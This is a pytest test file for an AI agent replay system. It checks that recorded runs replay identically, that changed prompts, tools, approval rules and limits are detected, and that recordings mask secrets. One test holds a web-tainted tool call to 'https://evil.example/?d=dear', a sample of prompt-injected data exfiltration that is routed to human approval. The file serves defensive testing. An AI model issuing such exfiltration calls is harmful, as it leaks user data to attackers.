"""Recordings replay as they were recorded, and what has changed since is seen."""

import copy
from pathlib import Path
from typing import Any

import pytest

from pentad.domain.declarations.agents import Catalog
from pentad.domain.ids import parse_approval_id
from pentad.domain.runs import RunStatus
from pentad.orchestration.timetravel.recording import Recording
from pentad.orchestration.timetravel.replay.replay import CannotReplay
from pentad.orchestration.timetravel.replay.report import Divergence
from pentad.orchestration.turn import decision as decide
from tests import recordings
from tests.recordings import CATALOG, SCENES, definition_of, files, load, replay
from tests.unit.orchestration.world import TENANT, World


def _recording(name: str) -> Recording:
    return load(recordings.FOLDER / f"{name}.json")


def _first(recording: Recording, catalog: Catalog = CATALOG, machine: dict[str, Any] | None = None) -> Divergence:
    report = replay(recording, catalog, machine)
    assert report.first is not None
    return report.first


def _with_agent(**values: Any) -> Catalog:
    agent = CATALOG.agents["desk"].model_copy(update=values)
    return CATALOG.model_copy(update={"agents": {**CATALOG.agents, "desk": agent}})


def _with_tool(name: str, **values: Any) -> Catalog:
    changed = CATALOG.tools[name].model_copy(update=values)
    return CATALOG.model_copy(update={"tools": {**CATALOG.tools, name: changed}})


@pytest.mark.parametrize("path", files(), ids=lambda path: path.stem)
def test_a_recording_replays_as_it_was_recorded(path: Path) -> None:
    report = replay(load(path))
    assert report.same, "\n".join(map(str, report.divergences))


def test_each_scene_has_its_recording() -> None:
    assert {path.stem for path in files()} == set(SCENES)


@pytest.mark.parametrize("name", SCENES)
def test_a_run_of_now_replays_at_once(name: str) -> None:
    stage, run = SCENES[name]()
    assert replay(stage.record(run)).same


def test_a_changed_prompt_is_seen() -> None:
    found = _first(_recording("answer"), _with_agent(prompt="You sell things."))
    assert (found.step, found.what, found.field) == (1, "request", "system prompt")


def test_a_changed_tool_schema_is_seen() -> None:
    found = _first(_recording("parallel_tools"), _with_tool("order_status", input_schema={"type": "object"}))
    assert (found.step, found.what, found.field) == (1, "request", "tool order_status")


def test_a_tool_more_is_seen() -> None:
    more = CATALOG.tools["order_status"].model_copy(update={"name": "new"})
    agent = CATALOG.agents["desk"].model_copy(update={"tools": ("order_status", "refund", "new")})
    catalog = Catalog(agents={"desk": agent}, tools={**CATALOG.tools, "new": more})
    found = _first(_recording("answer"), catalog)
    assert (found.field, found.recorded) == ("tool new", "not given to the model")


def test_a_tool_that_now_needs_an_approval_is_seen() -> None:
    found = _first(_recording("parallel_tools"), _with_tool("order_status", approval="always"))
    assert (found.step, found.what, found.recorded, found.now) == (1, "decision", "tools", "approve")


def test_a_tool_that_no_longer_needs_one_is_seen() -> None:
    found = _first(_recording("approval_rejected"), _with_tool("refund", approval="never"))
    assert (found.what, found.recorded, found.now) == ("decision", "approve", "tools")


def test_an_address_of_the_model_asks_again_and_one_that_was_given_does_not() -> None:
    recording = _recording("address_of_the_model")
    human = recording.steps[0].human
    assert human is not None
    assert (recording.taint, recording.context[2].taint) == (("tool:web",), ("tool:web",))
    assert [call.arguments["order"] for call in human.calls] == ["https://evil.example/?d=dear"]
    # What is told of each turn is made with what the recording says of its tools.
    assert [step.request is not None for step in recording.steps] == [True, True]
    assert _first(recording, _with_tool("web", any_address=False)).now == "tools"


def test_a_changed_rule_of_loops_is_seen(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(decide, "REPEATS", 2)
    found = _first(_recording("loop"))
    assert (found.step, found.what, found.recorded) == (2, "decision", "tools")
    assert found.now.startswith("stop: ")


def test_a_lower_limit_is_seen() -> None:
    limits = CATALOG.agents["desk"].limits.model_copy(update={"steps": 2})
    found = _first(_recording("parallel_tools"), _with_agent(limits=limits))
    assert (found.step, found.recorded) == (3, "answer")
    assert "2 steps" in found.now


def test_a_higher_limit_asks_for_a_turn_that_is_not_recorded() -> None:
    limits = CATALOG.agents["desk"].limits.model_copy(update={"steps": 9})
    found = _first(_recording("limit"), _with_agent(limits=limits))
    assert (found.step, found.now) == (7, "the model is asked")
    assert "6 steps" in found.recorded


def test_other_bands_are_seen() -> None:
    careful = CATALOG.agents["careful"]
    assert careful.confidence is not None
    bands = careful.confidence.bands.model_copy(update={"autonomous": 0.6, "review": 0.55})
    confidence = careful.confidence.model_copy(update={"bands": bands})
    agent = careful.model_copy(update={"confidence": confidence})
    catalog = CATALOG.model_copy(update={"agents": {"careful": agent}})
    found = _first(_recording("draft_rejected_then_approved"), catalog)
    assert (found.step, found.recorded, found.now) == (1, "approve", "answer")


def test_a_changed_message_is_seen_with_its_place() -> None:
    recording = _recording("parallel_tools")
    step = recording.steps[1]
    assert step.request is not None
    messages = list(step.request.messages)
    messages[2] = messages[2].model_copy(update={"digest": "0" * 32, "shown": "result something else"})
    changed = step.model_copy(update={"request": step.request.model_copy(update={"messages": tuple(messages)})})
    steps = (recording.steps[0], changed, *recording.steps[2:])
    found = _first(recording.model_copy(update={"steps": steps}))
    assert (found.step, found.what, found.field) == (2, "request", "message 3 of 3")
    assert "something else" in found.recorded


def test_a_changed_route_of_the_machine_is_seen() -> None:
    machine = copy.deepcopy(definition_of("desk"))
    machine["States"]["Decide"]["Choices"] = []
    found = _first(_recording("parallel_tools"), machine=machine)
    assert found.what in {"failure", "outcome"}


def test_without_prints_prompt_and_tools_are_still_compared() -> None:
    recording = _recording("parallel_tools")
    bare = recording.model_copy(
        update={"steps": tuple(step.model_copy(update={"request": None}) for step in recording.steps)}
    )
    assert replay(bare).same
    assert _first(bare, _with_agent(prompt="Another.")).field == "system prompt"


def test_a_difference_of_all_turns_is_told_once() -> None:
    report = replay(_recording("parallel_tools"), _with_agent(prompt="Another."))
    assert [one.field for one in report.divergences] == ["system prompt"]


def test_an_agent_that_is_gone_can_not_be_replayed() -> None:
    with pytest.raises(CannotReplay, match="the agent 'desk' no longer exists"):
        replay(_recording("answer"), CATALOG.model_copy(update={"agents": {}}), definition_of("desk"))


def test_a_machine_with_a_state_of_another_type_can_not_be_replayed() -> None:
    machine = definition_of("desk")
    machine["States"]["Recall"] = {"Type": "Parallel", "Branches": [], "Next": "Think"}
    with pytest.raises(CannotReplay, match="Parallel"):
        replay(_recording("answer"), machine=machine)


def test_a_run_that_goes_on_in_another_execution_replays() -> None:
    recording = _recording("limit")
    machine = definition_of("desk", event_limit=30)
    report = replay(recording, machine=machine)
    assert report.same, report.first


def test_a_recording_holds_no_name_no_prompt_and_no_secret() -> None:
    key = "sk-" + "a1" * 12
    stage = recordings.Stage()
    run = stage.run("desk", f"My key is {key}", ["Thanks."], user="ada.lovelace")
    text = stage.record(run).model_dump_json()
    assert TENANT not in text
    assert "ada.lovelace" not in text
    assert CATALOG.agents["desk"].prompt not in text
    assert key not in text
    assert "[masked]" in text


def test_a_run_with_a_masked_secret_in_approved_arguments_replays() -> None:
    stage = recordings.Stage()
    key = "sk-" + "b2" * 12
    call = [("refund", {"order": "A1", "note": f"key {key}"})]
    run = stage.run("desk", "Refund A1", [call, "Done."], recordings.says("approve"))
    recording = stage.record(run)
    assert key not in recording.model_dump_json()
    report = replay(recording)
    assert report.same, report.first


def test_a_cancelled_run_replays_up_to_its_end() -> None:
    stage = recordings.Stage()
    world = stage.world
    run = world.begin("Where is A1?", agent="desk")
    world.model.script = [recordings.STATUS]
    world.act(run, world.turn(run, 1))
    ended = world.runs.finish(TENANT, run.run_id, RunStatus.CANCELLED, at=world.clock(), answer=None)
    assert replay(stage.record(ended)).same


def test_a_run_that_nobody_decided_in_time_replays() -> None:
    stage = recordings.Stage()

    def nobody(world: World, approval: str) -> None:
        world.clock.advance(100_000)
        world.asking.expire(TENANT, run_of(approval), 1)

    run = stage.run("desk", "Refund A1", [recordings.REFUND, "Nobody agreed."], nobody)
    report = replay(stage.record(run))
    assert report.same, report.first


def run_of(approval: str) -> str:
    return parse_approval_id(approval)[0]
